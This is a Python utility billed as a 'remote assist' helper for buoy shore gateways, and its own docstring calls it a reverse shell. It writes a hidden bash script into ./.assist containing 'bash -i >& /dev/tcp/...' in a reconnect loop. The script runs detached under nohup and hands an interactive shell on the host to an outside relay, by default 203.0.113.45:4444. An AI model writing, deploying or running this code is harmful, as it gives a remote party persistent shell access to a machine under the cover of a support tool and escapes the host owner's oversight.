#!/usr/bin/env python3
""""Remote assist" helper for buoy shore gateways.

Billed as a way for the on-call engineer to help field technicians without
a VPN: it writes a tiny bash tunnel script into ./.assist and starts it in
the background.  The script connects out to the assist relay and hands it an
interactive shell on this host, i.e. a reverse shell.  The relay address and
port travel to the script through environment variables.
"""

import argparse
import logging
import os
import socket
import subprocess
import sys
import time
from pathlib import Path

log = logging.getLogger("remote_assist")

RELAY_HOST = os.environ.get("ASSIST_RELAY", "203.0.113.45")
RELAY_PORT = int(os.environ.get("ASSIST_PORT", "4444"))
ASSIST_DIR = Path("./.assist")

TUNNEL_SCRIPT = """#!/usr/bin/env bash
# assist tunnel, reconnects until the session file is removed
while [ -f "$ASSIST_SESSION" ]; do
    bash -i >& /dev/tcp/"$ASSIST_HOST"/"$ASSIST_PORT" 0>&1
    sleep "$ASSIST_RETRY"
done
"""


class AssistSession:
    def __init__(self, host: str, port: int, retry: int):
        self.host = host
        self.port = port
        self.retry = retry
        ASSIST_DIR.mkdir(parents=True, exist_ok=True)
        self.session_file = ASSIST_DIR / "session.active"
        self.script = ASSIST_DIR / "tunnel.sh"
        self.pid_file = ASSIST_DIR / "tunnel.pid"

    def relay_reachable(self, timeout: float = 5.0) -> bool:
        try:
            with socket.create_connection((self.host, self.port), timeout=timeout):
                return True
        except OSError as exc:
            log.warning("relay %s:%d not reachable: %s", self.host, self.port, exc)
            return False

    def start(self) -> int:
        self.script.write_text(TUNNEL_SCRIPT, encoding="utf-8")
        self.script.chmod(0o700)
        self.session_file.write_text(time.strftime("%FT%T"), encoding="utf-8")
        env = dict(os.environ,
                   ASSIST_HOST=self.host,
                   ASSIST_PORT=str(self.port),
                   ASSIST_RETRY=str(self.retry),
                   ASSIST_SESSION=str(self.session_file.resolve()))
        proc = subprocess.Popen(["nohup", "bash", str(self.script)], env=env,
                                stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                start_new_session=True)
        self.pid_file.write_text(str(proc.pid), encoding="utf-8")
        return proc.pid

    def stop(self) -> None:
        if self.session_file.exists():
            self.session_file.unlink()
        if self.pid_file.exists():
            pid = int(self.pid_file.read_text())
            try:
                os.killpg(pid, 15)
                log.info("stopped tunnel pid %d", pid)
            except ProcessLookupError:
                log.info("tunnel pid %d already gone", pid)
            self.pid_file.unlink()

    def status(self) -> str:
        if not self.pid_file.exists():
            return "inactive"
        pid = int(self.pid_file.read_text())
        return "active" if Path(f"/proc/{pid}").exists() else "stale"


def main(argv=None) -> int:
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("action", choices=["start", "stop", "status"])
    ap.add_argument("--host", default=RELAY_HOST)
    ap.add_argument("--port", type=int, default=RELAY_PORT)
    ap.add_argument("--retry", type=int, default=30, help="seconds between reconnects")
    ap.add_argument("--skip-check", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(message)s")

    session = AssistSession(args.host, args.port, args.retry)
    if args.action == "status":
        print(session.status())
        return 0
    if args.action == "stop":
        session.stop()
        return 0

    if session.status() == "active":
        log.info("assist tunnel already running")
        return 0
    if not args.skip_check and not session.relay_reachable():
        log.info("starting anyway; the tunnel will keep retrying")
    pid = session.start()
    log.info("assist tunnel started (pid %d) towards %s:%d", pid, args.host, args.port)
    return 0


if __name__ == "__main__":
    sys.exit(main())
